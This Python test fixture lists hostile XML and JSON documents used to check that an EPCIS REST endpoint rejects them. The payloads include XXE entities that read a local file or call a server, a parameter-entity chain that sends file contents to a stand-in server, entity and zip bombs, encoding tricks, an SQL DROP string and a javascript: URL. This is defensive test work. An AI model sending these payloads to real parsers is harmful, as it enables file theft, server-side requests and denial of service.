"""
Documents that nobody sends by mistake, and some that only look so: how each is answered.

Each is made here, by a function of the address of a server that must not be asked and of a file
that must not be read. `rule` is the one that the first violation names; None is for what is taken.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.rest.documents import CONTEXT, JSON, JSON_LD, XML, document, event

MEGA = 1 << 20
SECRET = "what-no-partner-may-see"


@dataclass(frozen=True)
class Surroundings:
    """What a document may try to reach: a server, by its address, and a file, by its URL."""

    server: str = "http://127.0.0.1:9/nothing"
    file: str = "file:///nothing"


@dataclass(frozen=True)
class Hostile:
    """A document, its media type, and the rule by which it is refused, if it is."""

    id: str
    make: Callable[[Surroundings], bytes]
    media_type: str
    rule: str | None
    status: int = 400


def xml(
    *,
    prolog: str = "",
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    attributes: str = "",
    header: str = "",
    events: str | None = None,
    extra: str = "",
    after: str = "",
    epc: str = "urn:epc:id:sgtin:030001.0012345.1",
    time: str = "2026-01-01T00:00:00Z",
    namespace: str = "urn:epcglobal:epcis:xsd:2",
) -> str:
    """A document of EPCIS 2.0 with an event, and something in one place that does not belong."""
    one = (
        f"<ObjectEvent><eventTime>{time}</eventTime>"
        "<eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
        f"<epcList><epc>{epc}</epc></epcList><action>OBSERVE</action>{extra}</ObjectEvent>"
    )
    return (
        f'{declaration}{prolog}<e:EPCISDocument xmlns:e="{namespace}" schemaVersion="2.0" '
        f'creationDate="2026-01-01T00:00:00Z"{attributes}>{header}<EPCISBody><EventList>'
        f"{one if events is None else events}</EventList></EPCISBody></e:EPCISDocument>{after}"
    )


def of(rule: str | None, /, **parts: Any) -> tuple[Callable[[Surroundings], bytes], str | None]:
    """An XML document whose parts may name the surroundings: `{server}` and `{file}`."""

    def make(around: Surroundings) -> bytes:
        filled = {
            name: part.replace("{server}", around.server).replace("{file}", around.file)
            for name, part in parts.items()
        }
        return xml(**filled).encode()

    return make, rule


def as_is(rule: str | None, body: bytes) -> tuple[Callable[[Surroundings], bytes], str | None]:
    return lambda _: body, rule


def laughs(levels: int) -> str:
    entities = "".join(
        f'<!ENTITY l{n} "{10 * f"&l{n - 1};" if n else "ha"}">' for n in range(levels)
    )
    return f"<!DOCTYPE e [{entities}]>"


def zipped(body: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("epcis.xml", body)
    return file.getvalue()


EX = 'xmlns:x="https://ns.example.com/"'
GOOD = xml()
EXTENDED = f"<x:a {EX}>%s</x:a>"
THOUSAND_ATTRIBUTES = " ".join(f'x:a{n}=""' for n in range(1_000))
THOUSAND_NAMESPACES = " ".join(f'xmlns:p{n}="urn:{n}"' for n in range(1_000))
IN_1_2 = "urn:epcglobal:epcis:xsd:1"

_XML: dict[str, tuple[Callable[[Surroundings], bytes], str | None]] = {
    # Document type declarations and what they bring; of what would grow the parser says so first.
    "doctype": of("doctype", prolog="<!DOCTYPE e>"),
    "doctype after a comment": of("doctype", prolog="<!-- <!DOCTYPE --><!DOCTYPE e>"),
    "doctype after an instruction": of("doctype", prolog="<?x y?>\n<!DOCTYPE e>"),
    "doctype after much": of("doctype", prolog=f"<!--{' ' * 200_000}--><!DOCTYPE e>"),
    "billion laughs": of("xml", prolog=laughs(10), epc="&l9;"),
    "billion laughs in an attribute": of("xml", prolog=laughs(10), attributes=f' x:a="&l9;" {EX}'),
    "quadratic blow-up": of(
        "xml", prolog=f'<!DOCTYPE e [<!ENTITY a "{"a" * 50_000}">]>', epc="&a;" * 5_000
    ),
    "entity that names itself": of("xml", prolog='<!DOCTYPE e [<!ENTITY a "&a;">]>', epc="&a;"),
    "external entity, file": of(
        "doctype", prolog='<!DOCTYPE e [<!ENTITY a SYSTEM "{file}">]>', epc="&a;"
    ),
    "external entity, server": of(
        "doctype", prolog='<!DOCTYPE e [<!ENTITY a SYSTEM "{server}">]>', epc="&a;"
    ),
    "external entity, public": of(
        "doctype", prolog='<!DOCTYPE e [<!ENTITY a PUBLIC "-//x" "{server}">]>', epc="&a;"
    ),
    "external subset": of("doctype", prolog='<!DOCTYPE e SYSTEM "{server}">'),
    "external subset, file": of("doctype", prolog='<!DOCTYPE e SYSTEM "{file}">'),
    "external subset, public": of("doctype", prolog='<!DOCTYPE e PUBLIC "-//x" "{server}">'),
    "parameter entity": of("doctype", prolog='<!DOCTYPE e [<!ENTITY % p SYSTEM "{server}"> %p;]>'),
    "parameter entity that tells": of(
        "xml",
        prolog='<!DOCTYPE e [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY &#37; s '
        "SYSTEM '{server}?%f;'>\"> %p; %s;]>",
    ),
    "default attributes": of("doctype", prolog='<!DOCTYPE e [<!ATTLIST epc x CDATA "y">]>'),
    "notation": of("doctype", prolog='<!DOCTYPE e [<!NOTATION n SYSTEM "{server}">]>'),
    "unparsed entity": of(
        "doctype",
        prolog='<!DOCTYPE e [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "{server}" NDATA n>]>',
    ),
    "entity that nobody declared": of("xml", epc="&secret;"),
    "doctype in the middle": of("xml", extra="<!DOCTYPE e>"),
    "doctype that is cut": as_is("xml", b"<!DOCTYPE e [<!ENTITY a "),
    # What could be fetched.
    "schema location": of(
        None,
        attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:epcglobal:epcis:xsd:2 {server}"',
    ),
    "schema location without a namespace": of(
        None,
        attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:noNamespaceSchemaLocation="{server}"',
    ),
    "stylesheet": of(None, prolog='<?xml-stylesheet href="{server}" type="text/xsl"?>'),
    "XInclude": of(
        None,
        extra='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
    ),
    "XInclude of a server": of(
        None, extra='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{server}"/>'
    ),
    "base address": of(None, attributes=' xml:base="{server}"'),
    "identifier at the server": of(None, epc="{server}/obj/1"),
    # Sizes.
    "deep": of("depth", extra=EXTENDED % ("<x:b>" * 100 + "</x:b>" * 100)),
    "deeper than a parser goes": of("xml", extra=EXTENDED % ("<x:b>" * 5_000 + "</x:b>" * 5_000)),
    "deep and cut": of("xml", events="<a>" * 20_000),
    "long attribute": of(None, extra=f'<x:a {EX} x:b="{"b" * MEGA}"/>'),
    "attribute beyond all bounds": of("xml", extra=f'<x:a {EX} x:b="{"b" * 11 * MEGA}"/>'),
    "long text": of(None, extra=EXTENDED % ("t" * MEGA)),
    "text beyond all bounds": of("xml", extra=EXTENDED % ("t" * 11 * MEGA)),
    "long name": of("xml", extra=f"<x:{'n' * 100_000} {EX}/>"),
    "long identifier": of("identifier-size", epc="urn:x:" + "1" * 100_000),
    "thousand attributes": of(None, extra=f"<x:a {EX} {THOUSAND_ATTRIBUTES}/>"),
    "thousand namespaces": of(None, extra=f"<x:a {EX} {THOUSAND_NAMESPACES}/>"),
    "hundred thousand comments": of(None, extra="<!-- -->" * 100_000),
    "hundred thousand instructions": of(None, extra="<?x?>" * 100_000),
    "two thousand empty events": of("required", events="<ObjectEvent/>" * 2_000),
    "many character references": of(None, extra=EXTENDED % ("&#65;" * 100_000)),
    "long comment": of(None, extra=f"<!--{'c' * MEGA}-->"),
    # Encodings.
    "byte order mark": as_is(None, b"\xef\xbb\xbf" + GOOD.encode()),
    "two byte order marks": as_is("xml", b"\xef\xbb\xbf" * 2 + GOOD.encode()),
    "UTF-16": as_is(None, GOOD.replace("UTF-8", "UTF-16").encode("utf-16")),
    "UTF-16 without a mark": as_is(None, GOOD.encode("utf-16-le")),
    "UTF-16 that is said to be UTF-8": as_is(None, GOOD.encode("utf-16")),
    "doctype in UTF-16": as_is(
        "doctype", xml(prolog="<!DOCTYPE e>").replace("UTF-8", "UTF-16").encode("utf-16")
    ),
    "UTF-7": of("xml", declaration='<?xml version="1.0" encoding="UTF-7"?>'),
    "doctype in UTF-7": as_is(
        "xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE e+AD4-' + GOOD.encode()
    ),
    "EBCDIC": as_is("xml", GOOD.encode("cp037")),
    "Latin-1": as_is(
        None,
        xml(declaration='<?xml version="1.0" encoding="ISO-8859-1"?>', extra=EXTENDED % "é").encode(
            "latin-1"
        ),
    ),
    "Latin-1 that is said to be UTF-8": as_is("xml", xml(extra=EXTENDED % "é").encode("latin-1")),
    "encoding that nobody knows": of("xml", declaration='<?xml version="1.0" encoding="x-no"?>'),
    "version of XML that nobody knows": of("xml", declaration='<?xml version="7.0"?>'),
    "overlong UTF-8": as_is("xml", GOOD.encode().replace(b"OBSERVE", b"\xc0\xafOBSERVE")),
    "surrogate in UTF-8": as_is("xml", GOOD.encode().replace(b"OBSERVE", b"\xed\xa0\x80")),
    "NUL": as_is("xml", GOOD.encode().replace(b"OBSERVE", b"OBS\0ERVE")),
    "NUL by reference": of("xml", extra=EXTENDED % "&#0;"),
    "surrogate by reference": of("xml", extra=EXTENDED % "&#xD800;"),
    "control by reference": of("xml", extra=EXTENDED % "&#1;"),
    "escape sequence of a terminal": of("xml", epc="urn:x:\x1b[2J"),
    # What is not what it seems.
    "two roots": of("xml", after=GOOD.partition("\n")[2]),
    "text after the end": of("xml", after="and more"),
    "cut": as_is("xml", GOOD.encode()[:-20]),
    "cut in a tag": as_is("xml", GOOD.encode()[: GOOD.index("<action>") + 4]),
    "attribute twice": of("xml", extra=f'<x:a {EX} x:b="1" x:b="2"/>'),
    "attribute twice by two prefixes": of(
        "xml", extra=f'<x:a {EX} xmlns:y="https://ns.example.com/" x:b="1" y:b="2"/>'
    ),
    "prefix that nobody declared": of("xml", extra="<nobody:a/>"),
    "prefix xml for another namespace": of("xml", attributes=' xmlns:xml="urn:x"'),
    "namespaces of both versions": of("document-type", namespace="urn:epcglobal:epcis:xsd:3"),
    "events of one version in the other": of(
        "event-type", namespace=IN_1_2, events="<AssociationEvent/>"
    ),
    "events in a namespace": of("event-type", events=f"<x:ObjectEvent {EX}/>"),
    "fields in the namespace of EPCIS": of("unknown-element", extra="<e:bizStep>x</e:bizStep>"),
    "another document": as_is("document-type", b"<html><body/></html>"),
    "SOAP": as_is(
        "document-type",
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
    ),
    "gzip": as_is("xml", gzip.compress(GOOD.encode())),
    "zip": as_is("xml", zipped(GOOD.encode())),
    "zip bomb": as_is("xml", zipped(b"<a>" * 10 * MEGA)),
    "JSON": as_is("xml", b'{"type": "EPCISDocument"}'),
    "nothing": as_is("xml", b""),
    "blanks": as_is("xml", b" \n" * 10_000),
    "NULs": as_is("xml", b"\0" * 10_000),
    "CDATA": of(None, epc="<![CDATA[urn:epc:id:sgtin:030001.0012345.1]]>"),
    "CDATA that ends in another": of("xml", extra=EXTENDED % "<![CDATA[ ]]> ]]>"),
    # Values.
    "30 February": of("date-time", time="2026-02-30T00:00:00Z"),
    "year 10000": of("date-time", time="10000-01-01T00:00:00Z"),
    "year 0": of("date-time", time="0000-01-01T00:00:00Z"),
    "leap second": of("date-time", time="2016-12-31T23:59:60Z"),
    "time in other digits": of("date-time", time="202\u0666-01-01T00:00:00Z"),
    "time with a million digits": of("date-time", time=f"2026-01-01T00:00:00.{'1' * MEGA}"),
    "identifier with a newline": of("identifier", epc="urn:x:1\n2"),
    "markup in an identifier": of(None, epc="urn:x:%3Cscript%3E&lt;b&gt;"),
    "statement of SQL in an identifier": of(None, epc="urn:x:');DROP_TABLE_events;--"),
}


def js(**members: Any) -> bytes:
    return document(event(1, **members))


def text_of(json_text: str) -> bytes:
    """A document of which the extension `urn:x:y` is this text of JSON."""
    return js(**{"urn:x:y": "HERE"}).replace(b'"HERE"', json_text.encode())


def with_context(context: Any) -> Callable[[Surroundings], bytes]:
    def make(around: Surroundings) -> bytes:
        text = json.dumps(context).replace("{server}", around.server)
        value = json.loads(document(event(1)))
        value["@context"] = json.loads(text.replace("{file}", around.file))
        return json.dumps(value).encode()

    return make


_JSON: dict[str, tuple[Callable[[Surroundings], bytes], str | None]] = {
    # What could be fetched.
    "context elsewhere": (with_context([CONTEXT, "{server}"]), None),
    "context in a file": (with_context([CONTEXT, "{file}"]), None),
    "context elsewhere alone": (with_context("{server}"), None),
    "context that imports": (with_context([CONTEXT, {"@import": "{server}"}]), None),
    "context of a term": (
        with_context([CONTEXT, {"x": {"@id": "urn:x:", "@context": "{server}"}}]),
        None,
    ),
    "context that is no context": (with_context(7), "type"),
    "schema elsewhere": (lambda a: js(**{"urn:x:$schema": a.server}), None),
    "reference elsewhere": (lambda a: text_of(json.dumps({"$ref": a.server})), None),
    "identifier at the server": (lambda a: js(epcList=[f"{a.server}/obj/1"]), None),
    # Sizes.
    "brackets": as_is("depth", b"[" * MEGA),
    "braces": as_is("depth", b'{"a":' * 200_000),
    "deep": as_is("depth", text_of("[" * 100 + "]" * 100)),
    "deep and cut": as_is("depth", text_of("[" * 100_000)),
    "just deep enough": as_is(None, text_of("[" * 59 + "]" * 59)),
    "long text": as_is(None, text_of(f'"{"t" * MEGA}"')),
    "long text without an end": as_is("json", text_of(f'"{"t" * MEGA}').rstrip(b'"]}')),
    "long name": as_is(None, js(**{"urn:x:" + "n" * MEGA: 1})),
    "long identifier": as_is("identifier-size", js(epcList=["urn:x:" + "1" * MEGA])),
    "long number": as_is("number", text_of("1" * MEGA)),
    "long fraction": as_is(None, text_of("0." + "1" * 100_000)),
    "hundred thousand members": as_is(
        None, text_of(json.dumps({f"m{n}": n for n in range(100_000)}))
    ),
    "members of one hash": as_is(
        None, text_of(json.dumps({str((2**61 - 1) * n): n for n in range(10_000)}))
    ),
    "ten thousand EPCs that are none": as_is("identifier", js(epcList=["x"] * 10_000)),
    "two thousand bad events": as_is("required", document(*({"type": "ObjectEvent"},) * 2_000)),
    # Numbers.
    "number beyond a double": as_is("number", text_of("1e309")),
    "exponent of a million": as_is("number", text_of("1e1000000")),
    "exponent that says nothing": as_is(None, text_of("0e-999")),
    "NaN": as_is("number", text_of("NaN")),
    "Infinity": as_is("number", text_of("-Infinity")),
    "quantity beyond a double": as_is(
        "number", text_of("1").replace(b'"urn:x:y": 1', b'"quantityList": [{"quantity": 1e999}]')
    ),
    "leading zero": as_is("json", text_of("007")),
    "hexadecimal": as_is("json", text_of("0x7")),
    # Encodings and texts.
    "byte order mark": as_is(None, b"\xef\xbb\xbf" + js()),
    "UTF-16": as_is("encoding", js().decode().encode("utf-16")),
    "UTF-32": as_is("encoding", js().decode().encode("utf-32")),
    "Latin-1": as_is("encoding", text_of('"é"').decode().encode("latin-1")),
    "overlong UTF-8": as_is("encoding", js().replace(b"OBSERVE", b"\xc0\xaf")),
    "surrogate in UTF-8": as_is("encoding", js().replace(b"OBSERVE", b"\xed\xa0\x80")),
    "NUL": as_is("json", js().replace(b"OBSERVE", b"OBS\0ERVE")),
    "NUL escaped": as_is("text", text_of('"\\u0000"')),
    "NUL in a name": as_is("text", text_of('{"\\u0000": 1}')),
    "lone surrogate": as_is("text", text_of('"\\ud800"')),
    "lone surrogate in a name": as_is("text", text_of('{"\\udfff": 1}')),
    "surrogates the wrong way round": as_is("text", text_of('"\\ude00\\ud83d"')),
    "whole pair": as_is(None, text_of('"\\ud83d\\ude00"')),
    "control character": as_is("json", text_of('"\x01"')),
    # What is not what it seems.
    "member twice": as_is("duplicate-member", text_of('{"a": 1, "a": 2}')),
    "member twice, once escaped": as_is("duplicate-member", text_of('{"a": 1, "\\u0061": 2}')),
    "action twice": as_is("duplicate-member", js().replace(b'"action"', b'"action": 1, "action"')),
    "epcisBody twice": as_is(
        "duplicate-member", js().replace(b'"epcisBody"', b'"epcisBody": {}, "epcisBody"')
    ),
    "__proto__": as_is("extension-name", js(__proto__={"action": "ADD"})),
    "unknown field": as_is("extension-name", js(constructor=1)),
    "comment": as_is("json", b"/* hello */" + js()),
    "single quotes": as_is("json", js().replace(b'"', b"'")),
    "trailing comma": as_is("json", js().replace(b"]}}", b",]}}")),
    "two documents": as_is("json", js() * 2),
    "lines of JSON": as_is("json", js() + b"\n" + js()),
    "cut": as_is("json", js()[:-3]),
    "gzip": as_is("encoding", gzip.compress(js())),
    "zip": as_is("encoding", zipped(js())),
    "XML": as_is("json", GOOD.encode()),
    "a text": as_is("type", b'"EPCISDocument"'),
    "null": as_is("type", b"null"),
    "nothing": as_is("json", b""),
    "blanks": as_is("json", b" " * 100_000),
    "NULs": as_is("json", b"\0" * 10_000),
    "events in an object": as_is("type", js().replace(b"[{", b'{"0": {').replace(b"}]}", b"}}}")),
    "text for a list": as_is("type", js(epcList="urn:x:1")),
    "list for a text": as_is("type", js(eventTime=[])),
    # Values.
    "30 February": as_is("date-time", js(eventTime="2026-02-30T00:00:00Z")),
    "year 10000": as_is("date-time", js(eventTime="10000-01-01T00:00:00Z")),
    "offset beyond the day": as_is("zone-offset", js(eventTimeZoneOffset="+24:00")),
    "raw EPC": as_is("identifier", js(epcList=["urn:epc:raw:96.x0123"])),
    "identifier with a newline": as_is("identifier", js(epcList=["urn:x:1\n2"])),
    "script in an eventID": as_is("event-id", js(eventID="javascript:alert( 1 )")),
}

HOSTILE: tuple[Hostile, ...] = (
    *(Hostile(f"XML: {name}", make, XML, rule) for name, (make, rule) in _XML.items()),
    *(Hostile(f"JSON: {name}", make, JSON, rule) for name, (make, rule) in _JSON.items()),
    Hostile("XML as JSON", lambda _: GOOD.encode(), JSON_LD, "json"),
    Hostile("JSON as XML", lambda _: js(), "text/xml", "xml"),
    Hostile("form", lambda _: js(), "application/x-www-form-urlencoded", None, 415),
    Hostile("multipart", lambda _: js(), "multipart/form-data; boundary=b", None, 415),
    Hostile("media type of ten thousand letters", lambda _: js(), "a/" + "b" * 10_000, None, 415),
    Hostile("media type in other letters", lambda _: js(), "application/jsoñ", None, 415),
    Hostile("JSON that says gzip", lambda _: gzip.compress(js()), "application/gzip", None, 415),
)
